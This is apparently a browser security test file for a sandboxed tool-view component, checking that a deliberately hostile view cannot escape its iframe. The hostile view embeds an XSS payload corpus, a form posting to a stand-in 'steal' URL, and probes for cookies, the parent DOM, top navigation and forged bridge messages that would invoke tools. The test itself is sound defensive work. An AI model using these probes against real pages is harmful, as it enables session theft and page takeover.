import type { Frame, Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { XSS_PAYLOADS } from '../../packages/elements/src/airlock-tool-card/xss-corpus.js';
import { BrowserHarness } from '../../packages/elements/src/testing/browser.js';
import { sandboxProxyUrl, startSandboxProxy } from '../../apps/console/src/sandbox-proxy.js';
import type { RunningSandboxProxy } from '../../apps/console/src/sandbox-proxy.js';

/**
 * A view written to do harm: the project's XSS corpus as its markup, and a script that probes everything outside its
 * frame (the page's DOM, cookie and storage, top navigation, popups, the network, forged sandbox messages), keeping
 * what each probe got in `window.__probes` for the test to read.
 */
const hostile = (hostOrigin: string): string => `<!doctype html><html><head><title>hostile</title></head><body>
${XSS_PAYLOADS.join('\n')}
<form id="escape" action="https://example.invalid/steal" method="post" target="_top"><input name="x" value="1"></form>
<a id="top-link" href="https://example.invalid/" target="_top">top</a>
<script>
window.__probes = {};
const probe = (name, run) => {
  try { window.__probes[name] = String(run()); } catch (error) { window.__probes[name] = 'threw ' + error.name; }
};
probe('parentDom', () => parent.document.body.innerHTML);
probe('topDom', () => top.document.body.innerHTML = 'owned');
probe('topGlobal', () => (top.__xss = 1000));
probe('cookie', () => document.cookie);
probe('storage', () => localStorage.setItem('x', '1'));
probe('topNavigate', () => (top.location.href = 'https://example.invalid/'));
probe('popup', () => window.open('https://example.invalid/popup'));
probe('form', () => document.getElementById('escape').submit());
probe('link', () => document.getElementById('top-link').click());
probe('forgedReady', () => parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-resource-ready',
  params: { html: '<script>parent.__xss++<\\/script>' } }, '*'));
fetch('${hostOrigin}/airlock-elements.js').then(() => (window.__probes.fetch = 'reached'),
  () => (window.__probes.fetch = 'blocked'));
</script>
</body></html>`;

let harness: BrowserHarness;
let proxy: RunningSandboxProxy;
let page: Page;
let harnessOrigin = '';
/** The proxy page as a page of `origin` frames it. */
const proxyUrl = (origin = harnessOrigin) => sandboxProxyUrl(`http://127.0.0.1:${proxy.port}`, origin);
/** Every request the page or its frames started, with how it failed (Chromium reports a CSP block as a failure). */
const requests = new Map<string, string>();

beforeAll(async () => {
  harness = new BrowserHarness();
  await harness.start();
  // Only the harness's pages may frame the proxy (as only the console's may frame the console's).
  proxy = await startSandboxProxy('127.0.0.1', 0, { mayFrame: (origin) => origin === harnessOrigin });
  page = await harness.open(`<main id="host-marker" data-untouched="yes">host page</main>
    <airlock-app-view id="view"></airlock-app-view>`);
  harnessOrigin = new URL(page.url()).origin;
  page.on('request', (request: Request) => requests.set(request.url(), 'sent'));
  page.on('requestfailed', (request: Request) => requests.set(request.url(), request.failure()?.errorText ?? 'failed'));
  page.on('requestfinished', (request: Request) => requests.set(request.url(), 'answered'));
}, 60_000);

afterAll(async () => {
  await harness?.stop();
  await proxy?.close();
});

describe('a hostile view', () => {
  it('changes nothing outside its frame', async () => {
    const origin = new URL(page.url()).origin;
    await page.evaluate(
      ([proxyUrl, html]) => {
        (window as unknown as { __xss: number }).__xss = 0;
        const view = document.getElementById('view') as HTMLElement & Record<string, unknown>;
        view['proxyUrl'] = proxyUrl;
        view['view'] = { serverId: 'evil', tool: 'evil__tool', uri: 'ui://evil/view', html };
      },
      [proxyUrl(), hostile(origin)] as const,
    );
    const outer = await page.locator('airlock-app-view iframe').elementHandle();
    const proxyFrame = (await outer.contentFrame())!;
    await expect.poll(() => proxyFrame.childFrames().length, { timeout: 15_000 }).toBe(1);
    const view: Frame = proxyFrame.childFrames()[0]!;
    await expect
      .poll(() => view.evaluate(() => (window as unknown as { __probes?: { fetch?: string } }).__probes?.fetch))
      .toBe('blocked');
    const probes = await view.evaluate(() => (window as unknown as { __probes: Record<string, string> }).__probes);
    expect(probes).toMatchObject({
      parentDom: 'threw SecurityError',
      topDom: 'threw SecurityError',
      topGlobal: 'threw SecurityError',
      cookie: 'threw SecurityError',
      storage: 'threw SecurityError',
      topNavigate: 'threw SecurityError',
      popup: 'null',
    });
    // Nothing outside the frame moved: the page, its DOM and globals, its tabs; the proxy took no forged view.
    expect(new URL(page.url()).origin).toBe(origin);
    expect(await page.locator('#host-marker').getAttribute('data-untouched')).toBe('yes');
    expect(await page.evaluate(() => (window as unknown as { __xss: number }).__xss)).toBe(0);
    expect(page.context().pages()).toHaveLength(1);
    expect(proxyFrame.childFrames()).toHaveLength(1);
    expect(await proxyFrame.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
    // Only the proxy page was fetched on the view's behalf: every other request (the corpus' tracking images and
    // stylesheets, the fetch) was stopped by the view's policy before it left the browser. The page itself fetched
    // the elements' bridge chunk when the view was set.
    const own = `${harnessOrigin}/chunks/app-bridge-`;
    const others = () =>
      [...requests].filter(
        ([url]) =>
          !url.startsWith(`http://127.0.0.1:${proxy.port}/`) && !url.startsWith('data:') && !url.startsWith(own),
      );
    await expect.poll(() => others().filter(([, how]) => !/csp/i.test(how)), { timeout: 5000 }).toEqual([]);
  });

  it('removes a view that navigates its own frame away, and relays nothing more from where it went', async () => {
    const sink = await harness.open('<p>sink</p>');
    const relayed: unknown[] = [];
    await sink.exposeFunction('__relayed', (data: unknown) => relayed.push(data));
    // The view leaves for a page of the sink's origin that would drive the bridge if it were still relayed.
    // Once loaded (a navigation during the view's first script is a known gap: see docs/console.md), the view leaves.
    const leaving = `<!doctype html><html><body><script>
      addEventListener('load', () => setTimeout(() => { location.href = 'data:text/html,' + encodeURIComponent('<script>parent.postMessage({ jsonrpc: "2.0", id: 9, method: "tools/call", params: { name: "evil" } }, "*")<\\/script>'); }));
    </script></body></html>`;
    await sink.evaluate(
      ([proxyUrl, html]) => {
        window.addEventListener('message', (event) => {
          const data = event.data as { method?: string } | undefined;
          if (data?.method !== 'ui/notifications/sandbox-proxy-ready') {
            void (window as unknown as { __relayed: (d: unknown) => void }).__relayed(data);
          }
        });
        const frame = document.createElement('iframe');
        frame.src = proxyUrl;
        document.body.append(frame);
        window.addEventListener('message', (event) => {
          if ((event.data as { method?: string } | undefined)?.method === 'ui/notifications/sandbox-proxy-ready') {
            frame.contentWindow?.postMessage(
              { jsonrpc: '2.0', method: 'ui/notifications/sandbox-resource-ready', params: { html } },
              '*',
            );
          }
        });
      },
      [proxyUrl(), leaving] as const,
    );
    await expect
      .poll(() => relayed, { timeout: 15_000 })
      .toContainEqual(expect.objectContaining({ method: 'ui/notifications/sandbox-view-left' }));
    expect(relayed.filter((d) => (d as { method?: string }).method === 'tools/call')).toEqual([]);
    const proxyFrame = sink.frames().find((f) => f.url().startsWith(`http://127.0.0.1:${proxy.port}/`))!;
    // The proxy removes the view's frame before it says the view left, so its document has no frame by now. The
    // browser's frame tree reaches the test by another channel (the proxy runs in a process of its own), so that
    // is awaited rather than read once.
    expect(await proxyFrame.evaluate(() => document.querySelectorAll('iframe').length)).toBe(0);
    await expect.poll(() => proxyFrame.childFrames().length, { timeout: 5000 }).toBe(0);
  });

  it("refuses a sandbox proxy on the page's own origin, and shows why instead of the view", async () => {
    const same = await harness.open('<airlock-app-view id="same"></airlock-app-view>');
    await same.evaluate(() => {
      const view = document.getElementById('same') as HTMLElement & Record<string, unknown>;
      view['proxyUrl'] = `${location.origin}/sandbox`;
      view['view'] = { serverId: 's', tool: 's__t', uri: 'ui://s/v', html: '<p>hi</p>' };
    });
    await expect(same.locator('#same [part~="error"]').innerText()).resolves.toContain("has this page's origin");
    expect(await same.locator('#same iframe').count()).toBe(0);
  });
});
